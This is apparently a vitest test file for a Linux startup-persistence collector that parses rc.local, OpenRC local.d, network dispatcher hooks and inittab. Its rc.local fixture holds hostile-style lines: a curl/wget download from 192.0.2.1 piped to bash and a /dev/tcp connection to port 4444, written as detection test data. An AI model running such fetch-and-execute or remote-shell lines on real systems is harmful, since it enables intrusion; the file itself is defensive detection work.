import { describe, expect, it } from 'vitest';
import { source as inittab } from '../../main/sources/inittab.ts';
import { source as network } from '../../main/sources/network-dispatchers.ts';
import { source } from '../../main/sources/startup-scripts.ts';
import { collectLinux, LINUX_COLLECTION } from '../support/linux-source.ts';

const RC_LOCAL = `#!/bin/sh -e
# rc.local
touch /var/lock/subsys/local
nohup /opt/.agent/run --quiet \\
  --port 1 >/dev/null 2>&1 &
(curl -fsSL http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | bash
systemctl start hidden
python3 - <<EOF
import socket
EOF
bash -c '
  cat < /dev/tcp/192.0.2.1/4444
'
exit 0
`;

describe('startup-scripts', () => {
  it('shows what the lines of rc.local run', () => {
    const { one, counts } = collectLinux(source, {
      '/etc/rc.d/rc.local': { content: RC_LOCAL, mode: 0o755 },
      '/etc/rc.local': { link: 'rc.d/rc.local' },
      '/opt/.agent/run': 'ELF',
      '/bin/sh': 'ELF',
    });
    const rc = one('rc.local');
    expect(rc).toMatchObject({
      id: 'linux:rc-local:/etc/rc.local',
      kind: 'script',
      enabled: true,
      startMode: 'auto',
      account: 'root',
      image: { path: '/etc/rc.local', evidencePath: '/etc/rc.d/rc.local' },
      activator: { mechanism: 'rc-local', trigger: 'boot', startsUnit: 'hidden.service' },
    });
    const shown = rc.payloads.map(({ role, from, path, raw }) => `${role} ${from} ${path || raw}`);
    expect(shown).toEqual([
      'image file /etc/rc.local',
      'hosted-program interpreter /bin/sh',
      'script line 4 nohup',
      'hosted-program line 4 /opt/.agent/run',
      'script line 6 curl',
      'script line 6 wget',
      'script line 6 bash',
      'script line 7 systemctl',
      'script line 8 python3',
      'inline-code line 8 import socket',
      'script line 11 bash',
      'inline-code line 11 \n  cat < /dev/tcp/192.0.2.1/4444\n',
    ]);
    expect(rc.payloads.find(({ path }) => path === 'curl')?.raw).toContain('| bash');
    expect(counts).toMatchObject({ scripts: 1, enabled: 1, idle: 0 });
  });

  it('is not enabled without executable bit, when masked, or when it does nothing', () => {
    const run = '#!/bin/sh\n/opt/x\nexit 0\n';
    const enabled = (tree: Parameters<typeof collectLinux>[1]) =>
      collectLinux(source, tree).one('rc.local').enabled;
    expect(enabled({ '/etc/rc.local': { content: run, mode: 0o755 } })).toBe(true);
    expect(enabled({ '/etc/rc.local': { content: run, mode: 0o644 } })).toBe(false);
    expect(enabled({ '/etc/rc.local': { content: run } })).toBe(null);
    expect(enabled({ '/etc/rc.local': { content: '#!/bin/sh -e\n# x\n\nexit 0\n', mode: 0o755 } })).toBe(
      false,
    );
    expect(
      enabled({
        '/etc/rc.local': { content: run, mode: 0o755 },
        '/etc/systemd/system/rc-local.service': { link: '/dev/null' },
      }),
    ).toBe(false);
    const idle = collectLinux(source, { '/etc/rc.local': { content: 'exit 0\n', mode: 0o755 } });
    expect(idle.counts.idle).toBe(1);
  });

  it('knows the folders of OpenRC, and a binary in place of a script', () => {
    const { services } = collectLinux(source, {
      '/etc/local.d/a.start': { content: '#!/bin/sh\n/opt/a\n', mode: 0o755 },
      '/etc/local.d/a.stop': { content: '#!/bin/sh\n/opt/b\n', mode: 0o755 },
      '/etc/local.d/README': 'x',
      '/etc/rc.local': { content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0]), mode: 0o755 },
    });
    expect(services.map(({ name, enabled, activator }) => [name, enabled, activator?.trigger])).toEqual([
      ['rc.local', true, 'boot'],
      ['a.start', true, 'boot'],
      ['a.stop', true, 'halt'],
    ]);
    expect(collectLinux(source, {}, LINUX_COLLECTION).outcome).toBe('notPresent');
  });
});

describe('network-dispatchers', () => {
  it('reads scripts of every dispatcher, and says which would be refused', () => {
    const script = { content: '#!/bin/sh\n/opt/x "$1"\n', mode: 0o755, uid: 0, gid: 0 };
    const { services, counts } = collectLinux(network, {
      '/etc/NetworkManager/dispatcher.d/10-a': script,
      '/etc/NetworkManager/dispatcher.d/20-b': { ...script, mode: 0o777 },
      '/etc/NetworkManager/dispatcher.d/30-c': { ...script, uid: 1000 },
      '/usr/lib/NetworkManager/dispatcher.d/10-a': script,
      '/etc/NetworkManager/dispatcher.d/pre-up.d/d': script,
      '/etc/networkd-dispatcher/routable.d/e': script,
      '/etc/network/if-up.d/f': { ...script, mode: 0o644 },
      '/etc/dhcp/dhclient-exit-hooks.d/g': { ...script, mode: 0o644 },
    });
    expect(
      services.map(({ name, enabled, activator }) => `${name} ${enabled} ${activator?.trigger}`),
    ).toEqual([
      '10-a true NetworkManager',
      '20-b false NetworkManager',
      '30-c false NetworkManager',
      '10-a false NetworkManager',
      'd true NetworkManager pre-up.d',
      'e true networkd-dispatcher routable.d',
      'f false ifupdown if-up.d',
      'g true dhclient dhclient-exit-hooks.d',
    ]);
    expect(services[1]?.activator?.properties).toMatchObject({ Refused: 'others than root may write it' });
    expect(services[0]?.payloads.map(({ path }) => path)).toContain('/opt/x');
    expect(counts).toMatchObject({ scripts: 8, enabled: 4 });
  });

  it('reads commands of interfaces', () => {
    const { services } = collectLinux(network, {
      '/etc/network/interfaces':
        'auto eth0\niface eth0 inet dhcp\n  post-up /opt/x \\\n   -a\niface eth1 inet dhcp\n  up ip a\n',
    });
    expect(services.map(({ name, command, enabled }) => [name, command, enabled])).toEqual([
      ['interfaces:3', '/opt/x    -a', true],
      ['interfaces:6', 'ip a', null],
    ]);
  });
});

describe('inittab', () => {
  const TABLE =
    'id:2:initdefault:\nsi::sysinit:/etc/init.d/rcS\nx:2345:respawn:/usr/bin/python3 /tmp/x.py\nca::ctrlaltdel:/sbin/reboot\nbad\n::askfirst:-/bin/sh\n';

  it('makes a record of each line that starts something', () => {
    const { services, diagnostics } = collectLinux(inittab, { '/etc/inittab': TABLE });
    expect(services.map(({ name, startMode, command }) => [name, startMode, command])).toEqual([
      ['inittab:2', 'auto', '/etc/init.d/rcS'],
      ['inittab:3', 'auto', '/usr/bin/python3 /tmp/x.py'],
      ['inittab:4', 'demand', '/sbin/reboot'],
      ['inittab:6', 'auto', '-/bin/sh'],
    ]);
    expect(services[1]?.payloads.map(({ path }) => path)).toEqual(['/usr/bin/python3', '/tmp/x.py']);
    expect(diagnostics).toHaveLength(1);
  });

  it('systemd reads none of it', () => {
    const { services } = collectLinux(inittab, { '/etc/inittab': TABLE, '/lib/systemd/systemd': 'ELF' });
    expect(services.every(({ enabled }) => enabled === false)).toBe(true);
    expect(collectLinux(inittab, {}).outcome).toBe('notPresent');
  });
});
